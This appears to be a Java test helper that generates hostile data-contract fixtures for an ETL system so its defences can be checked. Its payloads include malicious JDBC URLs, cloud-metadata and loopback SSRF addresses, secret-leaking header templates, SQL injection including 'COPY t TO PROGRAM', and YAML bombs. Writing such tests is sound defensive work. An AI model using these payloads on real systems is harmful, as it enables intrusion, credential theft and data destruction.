package vn.kho.etl.jobs;

import static vn.kho.etl.jobs.HostileFilesTest.MARK;
import static vn.kho.etl.jobs.HostileHome.bomb;
import static vn.kho.etl.jobs.HostileHome.local;
import static vn.kho.etl.jobs.HostileHome.next;
import static vn.kho.etl.jobs.HostileHome.quoted;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Contracts whose servers, queries or texts reach what is not their agency's. */
record HostileContracts(HostileHome home, String url, List<String> names) {
  void write() throws IOException {
    databases();
    addresses();
    secrets();
    queries();
    texts();
  }

  private void databases() throws IOException {
    for (String jdbc :
        List.of(
            "jdbc:postgresql://db/x?socketFactory=x.Y&socketFactoryArg=" + url,
            "jdbc:postgresql://db/x?loggerFile=/tmp/" + MARK,
            "jdbc:mariadb://db/x?allowLocalInfile=true",
            "jdbc:mysql://db/x?autoDeserialize=true",
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '" + url + "/x.sql'",
            "jdbc:sqlite:/etc/passwd",
            "jdbc:sqlite:../kho/warehouse/catalog.db",
            "jdbc:sqlite::memory:",
            "jdbc:sqlite:x.db?enable_load_extension=true")) {
      home.server(next(names, "server"), custom(jdbc, "kho.table", "t"));
    }
    for (String host :
        List.of(
            "127.0.0.1",
            "localhost",
            "[::1]",
            "169.254.169.254",
            "0.0.0.0",
            "[::]",
            "[fe80::1]",
            "[::ffff:169.254.169.254]")) {
      String jdbc = "jdbc:postgresql://" + host + ":5432/x";
      home.server(next(names, "link"), custom(jdbc, "kho.table", "t"));
    }
    for (String query :
        List.of("DROP TABLE x", "SELECT 1; DROP TABLE x", "COPY t TO PROGRAM 'id'")) {
      home.server(
          next(names, "server"), custom("jdbc:postgresql://127.0.0.1:1/x", "kho.query", query));
    }
    home.server(
        next(names, "server"),
        custom("jdbc:postgresql://127.0.0.1:1/x", "kho.table", "t; DROP TABLE t"));
  }

  private void addresses() throws IOException {
    for (String location :
        List.of(
            url + "/a.csv",
            url.replace("127.0.0.1", "localhost") + "/a.csv",
            url.replace("127.0.0.1", "0.0.0.0") + "/a.csv",
            url.replace("127.0.0.1", "2130706433") + "/a.csv",
            url.replace("127.0.0.1", "[::ffff:127.0.0.1]") + "/a.csv",
            "http://169.254.169.254/latest/meta-data.csv",
            "http://[::1]:1/a.csv")) {
      home.server(next(names, "server"), "    type: api\n    location: '" + location + "'");
    }
  }

  private void secrets() throws IOException {
    for (String variable : List.of("PATH", "AWS_SECRET_ACCESS_KEY", "KHO_SECRET_OTHER_KEY")) {
      home.server(
          next(names, "server"),
          "    type: api\n    location: https://example.invalid/a.csv\n    customProperties:\n"
              + "      - {property: kho.headers, value: {Authorization: '${"
              + variable
              + "}'}}");
    }
    home.server(
        next(names, "server"),
        "    type: api\n    location: http://example.invalid/a.csv\n    customProperties:\n"
            + "      - {property: kho.headers, value: {Authorization: '${KHO_SECRET_SO_THU_K}'}}");
  }

  private static String custom(String jdbc, String key, String value) {
    return "    type: custom\n    customProperties:\n      - {property: kho.url, value: "
        + quoted(jdbc)
        + "}\n      - {property: "
        + key
        + ", value: "
        + quoted(value)
        + "}";
  }

  private void queries() throws IOException {
    for (String query :
        List.of(
            "DROP TABLE kho.trial.good",
            "SELECT count(*) FROM text.`/etc/passwd`",
            "SELECT reflect('java.lang.System', 'getenv', 'PATH')",
            "SELECT count(*) FROM ${table} WHERE java_method('a', 'b') = 'c'",
            "SELECT 1; SELECT 2")) {
      String name = next(names, "quality");
      home.good(name);
      home.contract(
          name,
          local(name + ".csv", "csv"),
          "    quality: [{type: sql, query: " + quoted(query) + ", mustBe: 0}]");
    }
  }

  private void texts() throws IOException {
    int at = 0;
    for (String text :
        List.of(
            bomb(),
            "a: " + "[".repeat(50_000),
            "a: &a {b: *a}",
            "a: !!java.net.URL ['" + url + "']",
            "a: " + "9".repeat(1_000_000),
            "x".repeat(5_000_000))) {
      home.write("contracts/trial/broken" + at++ + ".yaml", text.getBytes(StandardCharsets.UTF_8));
    }
  }
}
